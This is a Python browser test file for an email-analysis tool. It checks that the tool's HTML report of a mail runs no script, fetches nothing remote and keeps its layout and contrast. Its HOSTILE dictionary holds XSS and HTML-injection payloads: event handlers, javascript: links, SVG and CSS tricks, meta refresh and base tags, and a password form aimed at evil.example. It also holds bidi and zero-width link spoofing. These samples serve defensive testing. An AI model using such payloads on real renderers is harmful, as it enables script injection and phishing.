#!/usr/bin/env python3
"""The page of a mail in a browser.  usage: html_test.py PROGRAM SOURCE [TEST...]"""
import os, pathlib, subprocess, sys

SOURCE = pathlib.Path(sys.argv[2]).resolve()
sys.path[:0] = [str(SOURCE / 'tests/e2e'), str(SOURCE / 'tests')]
import browser, page_rules, tap

PROGRAM = str(pathlib.Path(sys.argv[1]).resolve())

HEAD = '''From: "%s" <info@sender.example>
To: taro.yamada@example.jp
Subject: %s
Date: Mon, 5 Jan 2026 10:00:00 +0900
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

'''
HOSTILE = {
    'script': '''<script>window.ran=1;document.title='ran'</script><img src=x onerror="window.ran=1"><body onload="window.ran=1">
        <p onclick="window.ran=1">text</p><a href="javascript:window.ran=1">go</a><iframe srcdoc="<script>top.ran=1</script>"></iframe>''',
    'svg': '''<svg onload="window.ran=1"><script>window.ran=1</script><foreignObject><body onload="window.ran=1"></foreignObject>
        <a xlink:href="javascript:window.ran=1"><text x="0" y="20">go</text></a><animate onbegin="window.ran=1" attributeName="x"/></svg>''',
    'css': '''<style>*{display:none!important}body{background:url(http://evil.example/b)}@import "http://evil.example/i";
        h1{color:red;width:expression(window.ran=1)}</style><link rel=stylesheet href="http://evil.example/s.css">
        <div style="position:fixed;inset:0;background:red;z-index:9999">over all</div>''',
    'ends': '''</title></style></textarea></mark></main></body></html><!-- never ended <script>window.ran=1</script>
        <plaintext><h1>genuine</h1><meta http-equiv=refresh content="0;url=http://evil.example/"><base href="http://evil.example/">''',
    'references': '''&lt;script&gt;window.ran=1&lt;/script&gt;&#60;img src=x onerror=window.ran=1&#62; &quot;&gt;&lt;svg onload=window.ran=1&gt;
        <a href="http://evil.example/&quot;onmouseover=&quot;window.ran=1">https://www.example.jp/&quot;&gt;&lt;b&gt;</a>''',
    'bidi': '''<p>\u202e.gnp gnihton \u2066\u2067\u202d<a href="http://\u202eevil.example/\u202c">\u202ehttps://www.example.jp/</a>
        \u200b\u200d\ufeff h\ufe0fttp://evil.example/ taro\ufe0f.yamada@example.jp</p>''',
    'forms': '''<form action="http://evil.example/p" method=post><input name=p type=password autofocus onfocus="window.ran=1">
        <button formaction="javascript:window.ran=1">send</button></form><object data="http://evil.example/o"></object>
        <video poster="http://evil.example/v" src="http://evil.example/w" autoplay></video><img src="data:image/svg+xml,<svg/>">''',
}

MADE = {}   # a mail and its language: the page, which is the same each time

def page_of(tmp, mail, language='en', name='mail'):
    eml, page = tmp / f'{name}.eml', tmp / f'{name}.{language}.html'
    eml.write_bytes(mail if isinstance(mail, bytes) else mail.encode())
    if (mail, language) not in MADE:
        MADE[mail, language] = made(eml, language)
    page.write_bytes(MADE[mail, language])
    return page

def made(eml, language):
    done = subprocess.run([PROGRAM, 'examine', '--format', 'html', '--lang', language, str(eml)], capture_output=True,
                          env={**os.environ, 'SHINGAN_DATA': str(SOURCE / 'data')}, timeout=120)
    assert done.returncode in (0, 10, 11, 12), done
    return done.stdout

def sample(tmp, language='ja'):
    return page_of(tmp, (SOURCE / 'examples/kagoya.eml').read_bytes(), language)

def hostile(tmp, name):
    sign = '"><script>window.ran=1</script>' if name == 'script' else '</title>' if name == 'ends' else 'Support'
    return page_of(tmp, HEAD % (sign.replace('"', '\\"'), sign + ' notice') + HOSTILE[name], name=name)

FRAME = '''const box = e => { const r = document.querySelector(e).getBoundingClientRect(); return [r.left, r.top, r.width].map(Math.round); };
  const look = e => { const c = getComputedStyle(document.querySelector(e)); return [c.color, c.backgroundColor, c.fontSize, c.display]; };
  return { boxes: ['header', 'header .level', 'h1', '.do', 'nav', 'main', '#sender'].map(box).map(b => [b[0], b[2]]),
    looks: ['body', 'h1', 'header', 'nav', '#mail', '.letter'].map(look), top: box('header .level'),
    parts: [...document.querySelectorAll('body *')].map(e => e.localName).filter((n, i, all) => all.indexOf(n) === i && n !== 'br'
      && n !== 'bdi' && n !== 'a' && n !== 'mark').sort().filter(n => ['script','img','iframe','form','input','object','link','base','video',
      'embed','style','foreignObject','animate','plaintext','button'].includes(n)),
    ran: window.ran || null, scripts: document.scripts.length, title: document.title, address: location.href }'''

def a_page_asks_for_nothing(tmp, b):
    for page in (sample(tmp), *(hostile(tmp, name) for name in HOSTILE)):
        b.requests()
        b.open(page)
        b.look(scheme='dark')
        b.look()
        asked = b.requests()
        assert asked == [page.as_uri()], (page.name, asked)

def hostile_mails_change_nothing(tmp, b):
    b.look()
    b.open(page_of(tmp, HEAD % ('Support', 'notice') + '<p>Hello, this is a plain letter.</p>'))
    calm = b.run(FRAME)
    for name in HOSTILE:
        page = hostile(tmp, name)
        assert not page_rules.faults(page.read_bytes()), (name, page_rules.faults(page.read_bytes()))
        b.open(page)
        b.run("document.querySelectorAll('a[href]').forEach(a => a.focus()); scrollTo(0, 0)")
        seen = b.run(FRAME)
        assert seen['ran'] is None and seen['scripts'] == 0 and not seen['parts'], (name, seen)
        assert seen['boxes'] == calm['boxes'] and seen['looks'] == calm['looks'] and seen['top'] == calm['top'], (name, seen, calm)
        assert seen['title'] == b.run("return document.querySelector('h1').textContent"), (name, seen)
        assert seen['address'].split('#')[0] == page.as_uri(), (name, seen)

def nobody_is_named_and_no_address_is_live(tmp, b):
    for name in HOSTILE:
        text = page_rules.text_of(hostile(tmp, name).read_bytes())
        assert 'taro.yamada' not in text and 'example.jp' not in text.replace('www.example[.]jp', ''), (name, text)
        assert not page_rules.LIVE.search(text.replace('javascript:window', '')), (name, page_rules.LIVE.search(text))

CONTRAST = '''const rgb = c => c.match(/[\\d.]+/g).map(Number);
  const light = c => { const f = c.slice(0, 3).map(v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * f[0] + 0.7152 * f[1] + 0.0722 * f[2]; };
  const ground = e => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor);
    if (c.length < 4 || c[3] > 0) return c; } return [255, 255, 255]; };
  const poor = [];
  for (const e of document.querySelectorAll('body *')) {
    if (e.closest('svg') || !e.getClientRects().length || ![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue;
    const a = light(rgb(getComputedStyle(e).color)), b = light(ground(e)), ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) poor.push([e.localName, e.className, e.textContent.slice(0, 30), ratio.toFixed(2)]); }
  return poor'''

def letters_stand_out_in_both_schemes(tmp, b):
    for page in (sample(tmp), hostile(tmp, 'bidi')):
        for scheme in ('light', 'dark'):
            b.look(scheme=scheme)
            b.open(page)
            b.run("document.querySelectorAll('details').forEach(d => d.open = true)")
            grounds = b.run("return getComputedStyle(document.body).backgroundColor")
            assert (sum(map(int, grounds[4:-1].split(','))) > 380) == (scheme == 'light'), (scheme, grounds)
            poor = b.run(CONTRAST)
            assert not poor, (page.name, scheme, poor[:5])

def a_narrow_window_scrolls_in_one_direction(tmp, b):
    wide = HEAD % ('S' * 80, 'word' * 40) + f'<p>{"x" * 3000} <a href="http://{"a" * 60}.example/{"b" * 900}">{"c" * 300}</a></p>'
    for page in (sample(tmp), sample(tmp, 'en'), page_of(tmp, wide, name='wide')):
        for width in (360, 700, 1280):
            b.look(width, 800)
            b.open(page)
            b.run("document.querySelectorAll('details').forEach(d => d.open = true)")
            got = b.run('return document.documentElement.scrollWidth')
            assert got <= width, (page.name, width, got)

def evidence_leads_to_its_place(tmp, b):
    b.look()
    b.open(sample(tmp))
    links = b.run("return [...document.querySelectorAll('a.evidence')].map(a => a.getAttribute('href'))")
    assert len(links) > 20 and all(links), links
    for href in dict.fromkeys(links):
        seen = b.run(f'''document.querySelector('a.evidence[href="{href}"]').click(); const at = document.querySelector('{href}');
          let next = at; while (next && next.localName !== 'mark') next = next.nextElementSibling;
          const r = next.getBoundingClientRect(); return [r.width > 0 && r.bottom > 0 && r.top < innerHeight, next.textContent]''')
        assert seen[0] and seen[1], (href, seen)

def everything_is_reached_by_tab(tmp, b):
    b.look()
    b.open(sample(tmp))
    reached = []
    for _ in range(80):
        b.key('Tab', 9)
        reached.append(b.run("const e = document.activeElement; return e.localName + '.' + e.className + ' ' + (e.getAttribute('href') || '')"))
    assert reached[0].startswith('a.skip'), reached[:3]
    for part in ('a. #reasons', 'a.evidence', 'a.to', 'summary'):
        assert any(r.startswith(part) for r in reached), (part, reached)

def paper_holds_it_all_on_white(tmp, b):
    b.look(scheme='dark', media='print')
    b.open(sample(tmp))
    seen = b.run('''const shown = e => document.querySelector(e).getClientRects().length > 0;
      return { ground: getComputedStyle(document.body).backgroundColor, nav: shown('nav'),
        inner: document.querySelector('#reasons details ol').getBoundingClientRect().height }''')
    assert seen['ground'] == 'rgb(255, 255, 255)' and not seen['nav'] and seen['inner'] > 20, seen
    b.paper(tmp / 'page.pdf')
    assert (tmp / 'page.pdf').read_bytes().startswith(b'%PDF-')
    b.look()

def pages_of_many_mails_have_an_index(tmp, b):
    for name in ('ends', 'bidi'):
        hostile(tmp, name)
    mails = [str(tmp / 'ends.eml'), str(tmp / 'bidi.eml')]
    env = {**os.environ, 'SHINGAN_DATA': str(SOURCE / 'data')}
    refused = subprocess.run([PROGRAM, 'examine', '--format', 'html', *mails], capture_output=True, env=env)
    assert refused.returncode == 64 and b'--out' in refused.stderr and not refused.stdout, refused
    folder = subprocess.run([PROGRAM, 'examine', '--format', 'html', str(tmp)], capture_output=True, env=env)
    assert folder.returncode == 64 and b'--out' in folder.stderr and not folder.stdout, folder
    done = subprocess.run([PROGRAM, 'examine', '--format', 'html', '--out', str(tmp / 'out'), *mails], capture_output=True, env=env)
    assert done.returncode in (0, 10, 11, 12), done
    b.open(tmp / 'out/index.html')
    b.run("document.querySelector('a[href=\"00002.html\"]').click()")
    assert b.run('return location.href') == (tmp / 'out/00002.html').as_uri()

TESTS = [a_page_asks_for_nothing, hostile_mails_change_nothing, nobody_is_named_and_no_address_is_live, letters_stand_out_in_both_schemes,
         a_narrow_window_scrolls_in_one_direction, evidence_leads_to_its_place, everything_is_reached_by_tab, paper_holds_it_all_on_white,
         pages_of_many_mails_have_an_index]

if __name__ == '__main__':
    if not browser.is_there():
        sys.exit(tap.skip_all('no chromium and chromedriver'))
    with browser.Browser() as b:
        sys.exit(tap.run(TESTS, b, only=sys.argv[3:]))
